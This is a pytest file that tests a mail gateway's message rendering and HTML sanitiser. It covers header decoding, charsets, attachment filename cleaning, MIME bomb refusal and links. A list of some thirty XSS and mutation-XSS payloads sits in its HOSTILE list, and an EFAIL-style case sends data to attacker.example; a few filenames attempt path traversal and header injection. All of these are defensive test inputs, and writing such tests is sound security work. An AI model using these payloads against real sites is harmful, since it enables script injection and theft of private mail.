"""What the portal shows of a stored message: headers, the better body, attachments; and nothing that runs (PO-09)."""

import base64
import re

import pytest
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from gateway.inspect.render import Attached, Refused, Rendered, attachment, render_message
from gateway.inspect.sanitise import harmless

PLAIN = b"From: a@a.example\r\nTo: b@b.example\r\nSubject: s\r\nMIME-Version: 1.0\r\n"


def rendered(data: bytes) -> Rendered:
    answer = render_message(data)
    assert isinstance(answer, Rendered)
    return answer


def mixed(*parts: bytes, kind: bytes = b"mixed") -> bytes:
    body = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts)
    return PLAIN + b"Content-Type: multipart/" + kind + b"; boundary=b\r\n\r\n" + body + b"--b--\r\n"


def test_headers_are_decoded_to_one_visible_line() -> None:
    """PO-19: no control characters, no marks that turn the direction of writing."""
    data = (
        b"From: =?utf-8?q?J=C3=BCrgen?= <j@a.example>\r\nTo: b@b.example\r\nCc: c@c.example\r\n"
        b"Subject: =?utf-8?q?a=0D=0AX:_b=1B[31m=E2=80=AEc?=\r\n folded\r\n"
        b"Date: Tue, 24 Nov 2026 09:15:00 -0500\r\n\r\nhi\r\n"
    )
    shown = rendered(data)
    assert shown.sender == "Jürgen <j@a.example>"
    assert shown.cc == "c@c.example"
    assert shown.subject == "a X: b[31mc folded"
    assert shown.date == "24 November 2026, 09:15 UTC-05:00"
    assert shown.text == "hi\n"
    assert shown.html == ""


@pytest.mark.parametrize("date", ["soon", "", "Tue, 99 Nov 2026 99:99:99 +9999", "1" * 500])
def test_an_odd_date_is_shown_as_it_stands(date: str) -> None:
    assert rendered(f"From: a@a.example\r\nDate: {date}\r\n\r\nhi".encode()).date == date


def test_of_an_alternative_the_last_text_is_shown() -> None:
    """RFC 2046 section 5.1.4; what is no text is not lost."""
    shown = rendered(
        mixed(
            b"Content-Type: text/plain\r\n\r\nplain",
            b"Content-Type: text/html\r\n\r\n<p>rich</p>",
            b"Content-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR",
            kind=b"alternative",
        )
    )
    assert "rich" in shown.html
    assert "plain" not in shown.html
    assert [file.number for file in shown.attachments] == [1]


def test_text_beside_html_is_shown_and_escaped() -> None:
    shown = rendered(
        mixed(b"Content-Type: text/html\r\n\r\n<p>a</p>", b"Content-Type: text/plain\r\n\r\n<script>1</script>")
    )
    assert "<p>a</p>" in shown.html
    assert "&lt;script&gt;" in shown.html
    assert "<script" not in shown.html


@pytest.mark.parametrize(
    ("head", "body", "text"),
    [
        (b"text/plain; charset=iso-8859-1", b"caf\xe9", "café"),
        (b"text/plain; charset=no-such", "café".encode(), "café"),
        (b"text/plain", b"nul\x00byte", "nulbyte"),
        (b"text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable", b"caf=C3=A9", "café"),
        (b"text/plain; charset*0=utf; charset*1=-8", "café".encode(), "café"),
    ],
)
def test_charsets_are_read_as_declared_or_guessed(head: bytes, body: bytes, text: str) -> None:
    assert rendered(PLAIN + b"Content-Type: " + head + b"\r\n\r\n" + body).text == text


def test_attachments_come_out_octet_for_octet() -> None:
    data = bytes(range(256)) * 5
    encoded = base64.encodebytes(data).replace(b"\n", b"\r\n")
    head = b"Content-Type: application/x-any\r\nContent-Disposition: attachment; filename=a.bin\r\n"
    message = mixed(
        b"Content-Type: text/plain\r\n\r\nhi", head + b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded
    )
    assert attachment(message, 1) == Attached("a.bin", data)
    shown = rendered(message)
    assert [(file.name, file.size) for file in shown.attachments] == [("a.bin", len(data))]
    for number in (0, 2, -1):
        assert isinstance(attachment(message, number), Refused)


def test_a_nested_message_is_one_attachment() -> None:
    nested = b"Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nFrom inside\r\n"
    message = mixed(b"Content-Type: text/plain\r\n\r\nouter", nested)
    assert rendered(message).text == "outer"
    answer = attachment(message, 1)
    assert isinstance(answer, Attached)
    assert answer.name == "attachment-1.eml"
    assert answer.content.startswith(b"Subject: inner\r\n\r\nFrom inside")


@pytest.mark.parametrize(
    ("declared", "name"),
    [
        ('filename="../../etc/passwd"', "passwd"),
        ('filename="C:\\\\temp\\\\x.svg"', "x.svg"),
        ("filename*=utf-8''%E2%80%AEgpj.exe", "gpj.exe"),
        ('filename="=?utf-8?q?a=0D=0ASet-Cookie:_x.pdf?="', "a Set-Cookie_ x.pdf"),
        ('filename=".."', "attachment-1"),
        ('filename=".htaccess"', "htaccess"),
        ("filename*=no-such''a.pdf", "a.pdf"),
        (f'filename="{"x" * 300}.pdf"', "x" * 109 + ".pdf"),
        ('filename="a.tar.gz"', "a.tar.gz"),
    ],
)
def test_po_11_a_name_is_only_a_name(declared: str, name: str) -> None:
    """PO-11: no path, no control or direction marks, bounded, and never empty."""
    part = f"Content-Type: application/x\r\nContent-Disposition: attachment; {declared}\r\n\r\nx".encode()
    assert [file.name for file in rendered(mixed(part)).attachments] == [name]


@pytest.mark.parametrize(
    "data",
    [
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 5000,
        b"X: y\r\n" * 5000 + b"\r\nbody",
        b"Content-Type: text/plain" + b"; a=b" * 20_000 + b"\r\n\r\nbody",
    ],
)
def test_mp_17_bombs_are_refused_before_parsing(data: bytes) -> None:
    """MP-17: counted on raw bytes; the portal then offers the message as a file."""
    assert isinstance(render_message(data), Refused)
    assert isinstance(attachment(data, 1), Refused)


@pytest.mark.parametrize(
    "data",
    [b"", b"\r\n", b"\x00" * 100, b"no header at all", mixed(), PLAIN + b"Content-Type: multipart/mixed\r\n\r\nx"],
)
def test_whatever_comes_something_is_shown(data: bytes) -> None:
    assert isinstance(render_message(data), Rendered)


def test_a_text_of_megabytes_is_a_file() -> None:
    """A page of 50 MB helps nobody, and would be made on the gateway's loop; its attachments come with the whole."""
    assert isinstance(render_message(PLAIN + b"\r\n" + b"a" * 2_000_001), Refused)
    assert isinstance(render_message(PLAIN + b"\r\n" + b"a" * 2_000_000), Rendered)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/a.gif>",
    "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)><use href=data:image/svg+xml,x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form action=https://evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import url(https://evil.example/a.css); a{background:url(https://evil.example/b)}</style>",
    "<div style='position:fixed;top:0;background:url(https://evil.example/c)'>x</div>",
    "<link rel=stylesheet href=https://evil.example/d.css>",
    "<filter><feImage href=https://evil.example/e></filter>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#x09;java&#10;script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='//evil.example/p'>x</a><a href='/logout'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=https://evil.example></object>",
    "<embed src=https://evil.example><video poster=https://evil.example><source src=https://evil.example></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<select><style></select><script>alert(1)</script></style></select>",
    "<p id=main name=cookie class=button tabindex=1 contenteditable accesskey=a autofocus onfocus=alert(1)>x</p>",
    "<table background=https://evil.example/f><td background=https://evil.example/g>x</table>",
    "<a ping=https://evil.example href=https://ok.example download>x</a>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "<body onload=alert(1) background=https://evil.example/h><isindex action=javascript:alert(1)>",
    "<blockquote cite=https://evil.example/i>x</blockquote><del cite=https://evil.example/j>x</del>",
    "</body></html><script>alert(1)</script>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
]

# Tags and attributes that may be left, with what their values may begin with.
_LEFT = re.compile(
    r"<(?:/?(?:a|b|blockquote|del|div|p|table|tbody|td|tr)|a(?: href=\"(?:https?:|mailto:|tel:)[^\"<>]*\")?"
    r"(?: target=\"_blank\")?(?: rel=\"noopener noreferrer nofollow\")?(?: target=\"_blank\")?)>"
)


@pytest.mark.parametrize("html", HOSTILE)
def test_po_09_po_10_nothing_runs_and_nothing_loads(html: str) -> None:
    """PO-09, PO-10: only the tags of the list are left, none with an attribute that loads or runs."""
    left = harmless(html)
    assert "<" not in _LEFT.sub("", left), left


@pytest.mark.parametrize("html", HOSTILE)
def test_po_09_cleaning_twice_changes_nothing(html: str) -> None:
    """PO-09, mXSS: what a browser parses from our output is what we looked at."""
    once = harmless(html)
    assert harmless(once) == once


def test_links_leave_in_a_page_of_their_own() -> None:
    link = harmless('<a href="https://clinic.example/x" target="_top" onclick="x()">x</a>')
    assert 'target="_blank"' in link
    assert 'rel="noopener noreferrer nofollow"' in link
    assert "onclick" not in link


def test_no_part_reaches_into_the_next() -> None:
    """CR-07: EFAIL's direct exfiltration. An attribute left open in one part would send the next one, which was secret,
    to the attacker's server; each part is closed by itself, and nothing is loaded.
    """
    shown = rendered(
        mixed(
            b'Content-Type: text/html\r\n\r\n<p>hello<img src="http://attacker.example/?',
            b"Content-Type: text/plain\r\n\r\nHIV positive",
            b'Content-Type: text/html\r\n\r\n"><p>bye',
            b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n-----BEGIN PGP MESSAGE-----",
        )
    )
    tree = HTMLParser(shown.html)
    assert [node.text() for node in tree.css("div.plain")] == ["HIV positive"]
    assert "attacker.example" not in shown.html
    assert not re.search(r"\b(src|href|style|srcset|action|background)\s*=", shown.html, re.IGNORECASE)
    assert "BEGIN PGP" not in shown.html
    assert [file.name for file in shown.attachments] == ["encrypted.asc"]
